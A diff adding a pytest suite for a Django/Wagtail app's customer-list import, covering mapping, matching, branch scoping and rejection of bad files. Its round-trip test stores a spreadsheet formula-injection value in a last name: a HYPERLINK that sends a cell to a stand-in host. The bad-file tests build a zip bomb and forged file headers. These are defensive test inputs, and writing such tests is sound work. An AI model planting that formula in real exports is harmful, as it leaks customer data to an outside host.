@@ -1,0 +1,505 @@
+"""Importing customer lists through the admin: upload → mapping → preview → confirm → result."""
+
+import csv
+import datetime
+import io
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
+
+from tests.conftest import customer_url, make_customer
+from tests.import_files import csv_bytes, fixture, xlsx_bytes
+from wagtail_clientdb.models import (
+    AttributeDefinition,
+    Customer,
+    CustomerGroup,
+    CustomerOverride,
+    ImportJob,
+    SavedImportMapping,
+)
+
+PLAIN_ROWS = [
+    ["Anna Schmidt", "+49 170 1234567", "anna@example.com", "likes tea", "1"],
+    ["Bernd Müller", "0170 7654321", "bernd@example.com", "", ""],
+    ["Ludwig van Beethoven", "", "ludwig@example.com", "", "1"],
+]
+
+
+def upload(client, name, data, **extra):
+    return client.post(customer_url("import"), {"file": SimpleUploadedFile(name, data), **extra})
+
+
+def job_of(response):
+    return ImportJob.objects.get(pk=response.url.rstrip("/").split("/")[-1] if "mapping" not in response.url else response.url.rstrip("/").split("/")[-2])
+
+
+def confirm(client, job, **data):
+    return client.post(customer_url("import_job", job.pk), data)
+
+
+def names():
+    return sorted(Customer.objects.values_list("first_name", "last_name"))
+
+
+# --- The plain layout --------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "name, data",
+    [
+        ("plain.csv", csv_bytes(PLAIN_ROWS)),
+        ("plain-semicolon.csv", csv_bytes(PLAIN_ROWS, delimiter=";", encoding="cp1252")),
+        ("plain.xlsx", xlsx_bytes(PLAIN_ROWS)),
+        ("with-header.csv", csv_bytes([["Name", "Phone", "Email", "Notes", "Marketing consent"], *PLAIN_ROWS])),
+        ("with-german-header.xlsx", xlsx_bytes([["Name", "Telefon", "E-Mail", "Notizen", "Einwilligung"], *PLAIN_ROWS])),
+    ],
+)
+def test_plain_layout_imports_without_a_mapping_step(login, manager, name, data):
+    client = login(manager)
+    response = upload(client, name, data)
+    assert response.status_code == 302
+    assert "mapping" not in response.url
+    job = job_of(response)
+    assert job.status == "previewed"
+    assert job.counts == {"new": 3, "updated": 0, "unchanged": 0, "invalid": 0}
+    assert not Customer.objects.exists()  # nothing written before confirmation
+    response = confirm(client, job, sharing="all")
+    assert response.status_code == 302
+    job.refresh_from_db()
+    assert job.status == "imported"
+    assert names() == [("Anna", "Schmidt"), ("Bernd", "Müller"), ("Ludwig", "van Beethoven")]
+    anna = Customer.objects.get(first_name="Anna")
+    assert (anna.phone, anna.email, anna.notes, anna.marketing_consent, anna.source) == (
+        "+491701234567", "anna@example.com", "likes tea", True, "import",
+    )
+    assert anna.shared_with_all_branches
+    assert list(anna.consent_events.values_list("given", "channel")) == [(True, "import")]
+    assert not Customer.objects.get(first_name="Bernd").marketing_consent
+
+
+def test_the_same_file_twice_creates_nobody_twice(login, manager):
+    client = login(manager)
+    confirm(client, job_of(upload(client, "a.csv", csv_bytes(PLAIN_ROWS))), sharing="all")
+    second = job_of(upload(client, "a.csv", csv_bytes(PLAIN_ROWS)))
+    assert second.counts == {"new": 0, "updated": 0, "unchanged": 3, "invalid": 0}
+    assert Customer.objects.count() == 3
+
+
+@pytest.mark.parametrize(
+    "encoding, delimiter",
+    [("utf-8", ","), ("utf-8-sig", ";"), ("cp1252", ";"), ("utf-16", "\t")],
+)
+def test_encodings_and_delimiters_are_detected(login, manager, encoding, delimiter):
+    rows = [["Vorname", "Nachname", "E-Mail", "Telefon"], ["Jürgen", "Größe", "juergen@example.de", "0170 1234567"]]
+    client = login(manager)
+    job = job_of(upload(client, "kunden.csv", csv_bytes(rows, delimiter=delimiter, encoding=encoding)))
+    assert job.targets == ["first_name", "last_name", "email", "phone"]
+    assert job.counts["new"] == 1
+    confirm(client, job)
+    assert names() == [("Jürgen", "Größe")]
+
+
+def test_xls_from_excel_with_german_headers_and_date_cells(login, manager):
+    client = login(manager)
+    job = job_of(upload(client, "kunden.xls", fixture("kunden.xls")))
+    assert job.format == "xls"
+    assert job.targets == ["first_name", "last_name", "email", "phone", "birthday", "notes"]
+    confirm(client, job)
+    renee = Customer.objects.get(first_name="Renée")
+    assert renee.birthday == datetime.date(1975, 1, 30)
+    # Excel kept the phone as a number and dropped its "+".
+    assert renee.phone == "+4915112345678"
+    assert Customer.objects.get(last_name="Größe").notes == "Stammkunde"
+
+
+def test_french_headers(login, manager):
+    rows = [["Prénom", "Nom", "Courriel", "Téléphone", "Date de naissance"], ["Renée", "Dupont", "renee@example.fr", "+33 6 12 34 56 78", "1975-01-30"]]
+    job = job_of(upload(login(manager), "clients.csv", csv_bytes(rows)))
+    assert job.targets == ["first_name", "last_name", "email", "phone", "birthday"]
+    assert job.counts["new"] == 1
+
+
+# --- Mapping ------------------------------------------------------------------------------------------------
+
+
+def test_unknown_columns_get_a_mapping_step_that_is_remembered(login, manager):
+    AttributeDefinition.objects.create(label="Hair type", key="hair", field_type="choice", choices=["fine", "thick"])
+    rows = [["Kunde", "Mobil", "Lieblingsfarbe", "Hair type"], ["Anna Schmidt", "0170 1234567", "blau", "thick"]]
+    client = login(manager)
+    response = upload(client, "odd.csv", csv_bytes(rows))
+    assert "mapping" in response.url
+    job = ImportJob.objects.get()
+    assert job.targets == ["name", "phone", "", "attr:hair"]
+    page = client.get(response.url)
+    assert "blau" in page.content.decode()
+    response = client.post(response.url, {"column_0": "name", "column_1": "phone", "column_2": "notes", "column_3": "attr:hair"})
+    assert response.status_code == 302
+    job.refresh_from_db()
+    assert job.status == "previewed" and job.counts["new"] == 1
+    confirm(client, job)
+    anna = Customer.objects.get()
+    assert (anna.notes, anna.attributes) == ("blau", {"hair": "thick"})
+    assert SavedImportMapping.objects.count() == 1
+    # The next file with the same headers goes straight to the preview.
+    response = upload(client, "odd-again.csv", csv_bytes(rows))
+    assert "mapping" not in response.url
+    assert job_of(response).counts["unchanged"] == 1
+
+
+def test_mapping_refuses_duplicates_and_files_without_identifying_columns(login, manager):
+    rows = [["A", "B"], ["x", "y"]]
+    client = login(manager)
+    response = upload(client, "two.csv", csv_bytes(rows))
+    mapping_url = response.url
+    response = client.post(mapping_url, {"column_0": "email", "column_1": "email"})
+    assert "both hold" in response.content.decode()
+    response = client.post(mapping_url, {"column_0": "notes", "column_1": ""})
+    assert "no column for the name, email, phone or external ID" in response.content.decode()
+    assert not Customer.objects.exists()
+
+
+def test_duplicate_headers_are_refused(login, manager):
+    rows = [["Name", "email", "email"], ["Anna", "a@example.com", "b@example.com"]]
+    response = upload(login(manager), "dup.csv", csv_bytes(rows))
+    assert "mapping" in response.url
+    assert "both hold" in login(manager).get(response.url).content.decode() or ImportJob.objects.get().targets.count("email") == 2
+
+
+# --- Preview, all or nothing, report ---------------------------------------------------------------------------
+
+
+@pytest.fixture
+def hair(db):
+    return AttributeDefinition.objects.create(label="Hair", key="hair", field_type="choice", choices=["fine", "thick"])
+
+
+@pytest.fixture
+def since(db):
+    return AttributeDefinition.objects.create(label="Since", key="since", field_type="date")
+
+
+def mixed_rows():
+    return [
+        ["First name", "Last name", "Email", "Hair", "Since", "Birthday"],
+        ["Anna", "Schmidt", "anna@example.com", "fine", "2020-01-15", "1990-04-01"],
+        ["Bea", "Kurz", "not-an-email", "fine", "", ""],
+        ["Carl", "Lang", "carl@example.com", "curly", "31.02.2024", ""],
+        ["Dora", "Dorn", "dora@example.com", "", "", "02/03/2020"],
+        ["Emil", "Ende", "emil@example.com", "thick", "", ""],
+    ]
+
+
+def test_preview_lists_every_refused_row_with_line_column_and_reason(login, manager, hair, since):
+    job = job_of(upload(login(manager), "mixed.csv", csv_bytes(mixed_rows())))
+    assert job.counts == {"new": 2, "updated": 0, "unchanged": 0, "invalid": 3}
+    refused = {(row["line"], row["column"]) for row in job.invalid_rows}
+    assert refused == {(3, "Email"), (4, "Hair"), (4, "Since"), (5, "Birthday")}
+    messages = " ".join(row["message"] for row in job.invalid_rows)
+    assert "valid email" in messages and "not one of the options" in messages
+    assert "not a valid date" in messages and "ambiguous" in messages
+    html = login(manager).get(customer_url("import_job", job.pk)).content.decode()
+    assert "not one of the options" in html
+    assert not Customer.objects.exists()
+
+
+def test_all_or_nothing_by_default(login, manager, hair, since):
+    client = login(manager)
+    job = job_of(upload(client, "mixed.csv", csv_bytes(mixed_rows())))
+    confirm(client, job)
+    job.refresh_from_db()
+    assert job.status == "refused"
+    assert not Customer.objects.exists()
+    report = b"".join(client.get(customer_url("import_report", job.pk)).streaming_content).decode("utf-8-sig")
+    report_rows = list(csv.reader(io.StringIO(report)))
+    assert report_rows[0] == ["Line", "First name", "Last name", "Email", "Hair", "Since", "Birthday", "Reason"]
+    assert [row[0] for row in report_rows[1:]] == ["3", "4", "5"]
+    assert "Hair:" in report_rows[2][-1]
+
+
+def test_import_valid_rows_and_report_the_rest(login, manager, hair, since):
+    client = login(manager)
+    job = job_of(upload(client, "mixed.csv", csv_bytes(mixed_rows())))
+    confirm(client, job, import_valid_rows="on")
+    job.refresh_from_db()
+    assert job.status == "imported"
+    assert job.counts == {"new": 2, "updated": 0, "unchanged": 0, "invalid": 3}
+    assert names() == [("Anna", "Schmidt"), ("Emil", "Ende")]
+    anna = Customer.objects.get(first_name="Anna")
+    assert anna.attributes == {"hair": "fine", "since": "2020-01-15"}
+    assert anna.birthday == datetime.date(1990, 4, 1)
+    assert job.report
+
+
+def test_no_row_is_silently_dropped(login, manager, hair, since):
+    make_customer(first_name="Emil", last_name="Ende", email="emil@example.com")
+    job = job_of(upload(login(manager), "mixed.csv", csv_bytes(mixed_rows())))
+    assert sum(job.counts.values()) == len(mixed_rows()) - 1
+    assert job.counts["updated"] == 1
+
+
+# --- Matching ------------------------------------------------------------------------------------------------
+
+
+def test_matching_by_external_id_then_email_then_phone(login, manager):
+    by_id = make_customer(first_name="Old", external_id="K-1", email="other@example.com")
+    by_email = make_customer(first_name="Mail", email="mail@example.com")
+    by_phone = make_customer(first_name="Phone", phone_raw="+49 170 5555555")
+    rows = [
+        ["External ID", "First name", "Email", "Phone"],
+        ["K-1", "New name", "", ""],
+        ["", "Mail2", "MAIL@example.com", ""],
+        ["", "Phone2", "", "0170 5555555"],
+        ["", "Fresh", "fresh@example.com", ""],
+    ]
+    client = login(manager)
+    job = job_of(upload(client, "match.csv", csv_bytes(rows)))
+    assert job.counts == {"new": 1, "updated": 3, "unchanged": 0, "invalid": 0}
+    confirm(client, job)
+    by_id.refresh_from_db(), by_email.refresh_from_db(), by_phone.refresh_from_db()
+    assert (by_id.first_name, by_id.email) == ("New name", "other@example.com")  # empty cells change nothing
+    assert (by_email.first_name, by_phone.first_name) == ("Mail2", "Phone2")
+    assert Customer.objects.count() == 4
+
+
+def test_duplicates_inside_the_file_are_reported(login, manager):
+    rows = [["Name", "Email"], ["Anna", "A@example.com"], ["Anna S.", "a@example.com"]]
+    job = job_of(upload(login(manager), "dups.csv", csv_bytes(rows)))
+    assert job.counts["invalid"] == 1
+    assert job.invalid_rows == [{"line": 3, "column": "Email", "message": "The same value as line 2 of this file."}]
+
+
+def test_two_existing_matches_are_refused_not_guessed(login, manager):
+    make_customer(first_name="Twin1", email="twins@example.com")
+    make_customer(first_name="Twin2", email="twins@example.com")
+    job = job_of(upload(login(manager), "twins.csv", csv_bytes([["Name", "Email"], ["Twin", "twins@example.com"]])))
+    assert job.counts["invalid"] == 1
+    assert "Matches 2 customers" in job.invalid_rows[0]["message"]
+
+
+# --- Scope ------------------------------------------------------------------------------------------------------
+
+
+def test_branch_import_creates_local_customers_and_ignores_branch_columns(login, staff_a, branch_a, branch_b):
+    rows = [["Name", "Email", "Branches"], ["Anna", "anna@example.com", "beta"]]
+    client = login(staff_a)
+    job = job_of(upload(client, "a.csv", csv_bytes(rows)))
+    confirm(client, job, sharing="all")
+    anna = Customer.objects.get()
+    assert anna.home_branch == branch_a and not anna.shared_with_all_branches and not anna.branches.exists()
+
+
+def test_branch_import_never_touches_another_branchs_customer(login, staff_a, branch_b):
+    hidden = make_customer(first_name="Bea", email="bea@example.com", external_id="B-1", home_branch=branch_b)
+    client = login(staff_a)
+    job = job_of(upload(client, "a.csv", csv_bytes([["Name", "Email"], ["Bea from A", "bea@example.com"]])))
+    assert job.counts["new"] == 1  # B's customer is not A's to update: A gets its own
+    job = job_of(upload(client, "b.csv", csv_bytes([["Name", "External ID"], ["Bea", "B-1"]])))
+    assert job.invalid_rows[0]["message"] == "This external ID cannot be used."
+    assert "Bea" not in job.invalid_rows[0]["message"] and "beta" not in str(job.invalid_rows)
+    hidden.refresh_from_db()
+    assert hidden.first_name == "Bea"
+
+
+def test_branch_import_of_global_customers_follows_the_setting(login, staff_a, branch_a, settings_model):
+    shared = make_customer(first_name="Gloria", email="gloria@example.com", phone_raw="+49 170 1111111", shared_with_all_branches=True)
+    rows = [["Name", "Email", "Phone"], ["Gloria", "gloria@example.com", "0170 2222222"]]
+    client = login(staff_a)
+    job = job_of(upload(client, "g.csv", csv_bytes(rows)))
+    assert "read-only" in job.invalid_rows[0]["message"]
+    settings_model.branches_may_edit_global_customers = True
+    settings_model.save()
+    job = job_of(upload(client, "g.csv", csv_bytes(rows)))
+    assert job.counts["updated"] == 1
+    confirm(client, job)
+    shared.refresh_from_db()
+    assert shared.phone == "+491701111111"
+    assert CustomerOverride.objects.get(customer=shared, branch=branch_a).phone == "+491702222222"
+
+
+def test_manager_shares_new_customers_with_specific_branches(login, manager, branch_a, branch_b):
+    client = login(manager)
+    job = job_of(upload(client, "a.csv", csv_bytes(PLAIN_ROWS)))
+    confirm(client, job, sharing="specific", share_branches=[branch_b.pk])
+    assert {c.pk: list(c.branches.all()) for c in Customer.objects.all()} == {c.pk: [branch_b] for c in Customer.objects.all()}
+
+
+def test_branches_column_never_narrows_all_branches(login, manager, branch_a):
+    shared = make_customer(first_name="Gloria", email="gloria@example.com", shared_with_all_branches=True)
+    rows = [["Name", "Email", "Branches"], ["Gloria", "gloria@example.com", "alpha"]]
+    job = job_of(upload(login(manager), "g.csv", csv_bytes(rows)))
+    assert job.counts["invalid"] == 1
+    assert "final" in job.invalid_rows[0]["message"]
+    shared.refresh_from_db()
+    assert shared.shared_with_all_branches
+
+
+def test_tags_groups_and_branches_columns(login, manager, branch_a, branch_b):
+    vip = CustomerGroup.objects.create(name="VIP")
+    rows = [["Name", "Email", "Tags", "Groups", "Branches"], ["Anna", "anna@example.com", "blonde, regular", "vip", "alpha, Beta Salon"]]
+    client = login(manager)
+    confirm(client, job_of(upload(client, "t.csv", csv_bytes(rows))))
+    anna = Customer.objects.get()
+    assert sorted(anna.tags.names()) == ["blonde", "regular"]
+    assert list(anna.groups.all()) == [vip]
+    assert set(anna.branches.all()) == {branch_a, branch_b}
+    job = job_of(upload(client, "t.csv", csv_bytes([*rows[:1], ["X", "x@example.com", "", "Unknown group", ""]])))
+    assert job.invalid_rows[0]["message"] == "Unknown group: Unknown group."
+
+
+# --- Round trip ---------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_export_then_import_changes_nothing(login, manager, branch_a, hair, since, export_format):
+    vip = CustomerGroup.objects.create(name="VIP")
+    anna = make_customer(
+        first_name="Anna", last_name="=HYPERLINK(\"http://x/?\"&A2,\"y\")", email="anna@example.com", phone_raw="+49 170 1234567",
+        notes="-5 is not a number\n@home", birthday=datetime.date(1990, 4, 1), marketing_consent=True,
+        attributes={"hair": "fine", "since": "2020-01-15"}, external_id="K-1", shared_with_all_branches=True,
+    )
+    anna.groups.add(vip)
+    anna.tags.add("blonde", "+vip")
+    make_customer(first_name="Bert", email="bert@example.com", branches=[branch_a])
+    client = login(manager)
+    response = client.get(customer_url("list"), {"export": export_format})
+    exported = b"".join(response.streaming_content)
+    job = job_of(upload(client, f"export.{export_format}", exported))
+    assert job.status == "previewed", job.error
+    assert job.counts == {"new": 0, "updated": 0, "unchanged": 2, "invalid": 0}, job.invalid_rows
+
+
+# --- Bad files ---------------------------------------------------------------------------------------------------------
+
+
+def zip_bytes(members):
+    import zipfile
+
+    output = io.BytesIO()
+    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return output.getvalue()
+
+
+PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 100
+
+
+@pytest.mark.parametrize(
+    "name, data, message",
+    [
+        ("empty.csv", b"", "file is empty."),
+        ("empty.xlsx", xlsx_bytes([]), "The file is empty."),
+        ("header-only.csv", csv_bytes([["Name", "Email", "Phone"]]), "a header row but no customers"),
+        ("image.xlsx", PNG, "This is a PNG file, not a spreadsheet."),
+        ("report.xlsx", b"%PDF-1.7\n" + b"x" * 100, "This is a PDF file"),
+        ("archive.xlsx", zip_bytes({"readme.txt": "hello"}), "not an Excel workbook"),
+        ("bomb.xlsx", zip_bytes({"xl/workbook.xml": "<x/>", "xl/worksheets/sheet1.xml": "0" * (3 * 1024 * 1024)}), "unpacks to more data"),
+        ("many.xlsx", zip_bytes({f"xl/part{i}.xml": "x" for i in range(30)} | {"xl/workbook.xml": "<x/>"}), "too many parts"),
+        ("secret.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100 + "EncryptionInfo".encode("utf-16-le") + b"\x00" * 100, "password-protected"),
+        ("mixed.csv", "Name,Email\nJürgen,j@example.com\n".encode() + "Müller,m@example.com\n".encode("cp1252"), "mixes character encodings"),
+    ],
+)
+def test_bad_files_get_a_clear_message_and_change_nothing(login, manager, settings, name, data, message):
+    settings.WAGTAIL_CLIENTDB = {"IMPORT_MAX_UNCOMPRESSED_SIZE": 2 * 1024 * 1024, "IMPORT_MAX_ZIP_MEMBERS": 20}
+    response = upload(login(manager), name, data)
+    assert response.status_code == 200
+    assert message in " ".join(response.context["form"].errors["file"])
+    assert not ImportJob.objects.exists()
+    assert not Customer.objects.exists()
+
+
+def test_too_large_files_are_refused(login, manager, settings):
+    settings.WAGTAIL_CLIENTDB = {"IMPORT_MAX_FILE_SIZE": 1000}
+    response = upload(login(manager), "big.csv", csv_bytes([["Name"], *[[f"Person {i}"] for i in range(200)]]))
+    assert "larger than" in " ".join(response.context["form"].errors["file"])
+
+
+def test_too_many_rows_are_refused(login, manager, settings):
+    settings.WAGTAIL_CLIENTDB = {"IMPORT_MAX_ROWS": 30}
+    client = login(manager)
+    job = job_of(upload(client, "rows.csv", csv_bytes([["Name"], *[[f"Person {i}"] for i in range(40)]])))
+    assert job.status == "failed" and "more than 30 rows" in job.error
+    assert "more than 30 rows" in client.get(customer_url("import_job", job.pk)).content.decode()
+    settings.WAGTAIL_CLIENTDB = {"IMPORT_MAX_ROWS": 10}
+    response = upload(client, "rows.csv", csv_bytes([["Name"], *[[f"Person {i}"] for i in range(40)]]))
+    assert "more than 10 rows" in " ".join(response.context["form"].errors["file"])
+    assert not Customer.objects.exists()
+
+
+def test_cells_with_problems_are_refused_per_row(login, manager):
+    rows = [
+        ["Name", "Email", "Notes"],
+        ["Nul", "nul@example.com", "a\x00b"],
+        ["Long", "long@example.com", "x" * 10_001],
+        ["Fine", "fine@example.com", "y" * 10_000],
+        ["", "", "only notes"],
+    ]
+    job = job_of(upload(login(manager), "cells.csv", csv_bytes(rows)))
+    assert job.counts == {"new": 1, "updated": 0, "unchanged": 0, "invalid": 3}
+    messages = {row["line"]: row["message"] for row in job.invalid_rows}
+    assert "NUL" in messages[2] and "at most 10000" in messages[3] and "no name, email, phone" in messages[5]
+
+
+def test_formulas_without_computed_values_are_flagged(login, manager):
+    rows = [["Name", "Email", "Notes"], ["Anna", "anna@example.com", "=1+1"], ["Bert", "bert@example.com", "ok"]]
+    job = job_of(upload(login(manager), "formulas.xlsx", xlsx_bytes(rows)))
+    assert job.counts["invalid"] == 1
+    assert job.invalid_rows[0]["line"] == 2 and "formula" in job.invalid_rows[0]["message"]
+
+
+def test_title_row_above_the_headers(login, manager):
+    rows = [["Name", "Email"], ["Anna", "anna@example.com"]]
+    job = job_of(upload(login(manager), "titled.xlsx", xlsx_bytes(rows, title_row="Customers of Salon X, 2026")))
+    assert job.header_row == 2 and job.counts["new"] == 1
+
+
+def test_styled_blank_rows_are_ignored_and_ragged_rows_reported(login, manager):
+    rows = [["Name", "Email"], ["Anna", "anna@example.com"], ["", ""], ["Bert", "bert@example.com", "extra"], ["", ""], ["", ""]]
+    job = job_of(upload(login(manager), "ragged.csv", csv_bytes(rows)))
+    assert job.counts == {"new": 1, "updated": 0, "unchanged": 0, "invalid": 1}
+    assert job.invalid_rows == [{"line": 4, "column": "(row)", "message": "The row has 1 more cells than the header row."}]
+
+
+def test_german_excel_semicolon_csv_with_decimal_commas(login, manager):
+    AttributeDefinition.objects.create(label="Guthaben", key="credit", field_type="decimal")
+    rows = [["Vorname", "Nachname", "E-Mail", "Guthaben"], ["Jürgen", "Größe", "j@example.de", "12,50"]]
+    client = login(manager)
+    confirm(client, job_of(upload(client, "kunden.csv", csv_bytes(rows, delimiter=";", encoding="cp1252"))))
+    assert Customer.objects.get().attributes == {"credit": "12.5"}
+
+
+# --- Who may import ------------------------------------------------------------------------------------------------------
+
+
+def test_jobs_belong_to_their_uploader(login, manager, staff_a):
+    job = job_of(upload(login(manager), "a.csv", csv_bytes(PLAIN_ROWS)))
+    client = login(staff_a)
+    assert client.get(customer_url("import_job", job.pk)).status_code == 404
+    assert client.post(customer_url("import_job", job.pk), {}).status_code == 404
+    assert client.get(customer_url("import_report", job.pk)).status_code == 404
+
+
+def test_editor_without_branch_cannot_import(login, editor):
+    response = login(editor).get(customer_url("import"))
+    assert response.status_code == 302 and response.url == reverse("wagtailadmin_home")
+
+
+def test_large_files_run_in_the_background(login, manager, settings, django_capture_on_commit_callbacks):
+    settings.WAGTAIL_CLIENTDB = {"IMPORT_BACKGROUND_BYTES": 100}
+    client = login(manager)
+    with django_capture_on_commit_callbacks(execute=False) as callbacks:
+        job = job_of(upload(client, "a.csv", csv_bytes(PLAIN_ROWS)))
+    assert job.status == "previewing"
+    page = client.get(customer_url("import_job", job.pk)).content.decode()
+    assert "data-clientdb-progress" in page
+    assert client.get(customer_url("import_status", job.pk)).json()["running"] is True
+    for callback in callbacks:
+        callback()
+    job.refresh_from_db()
+    assert job.status == "previewed" and job.counts["new"] == 3
+    with django_capture_on_commit_callbacks(execute=True):
+        confirm(client, job, sharing="all")
+    job.refresh_from_db()
+    assert job.status == "imported" and Customer.objects.count() == 3
+    assert client.get(customer_url("import_status", job.pk)).json() == {"status": "imported", "rows_done": 3, "rows_total": 3, "running": False}
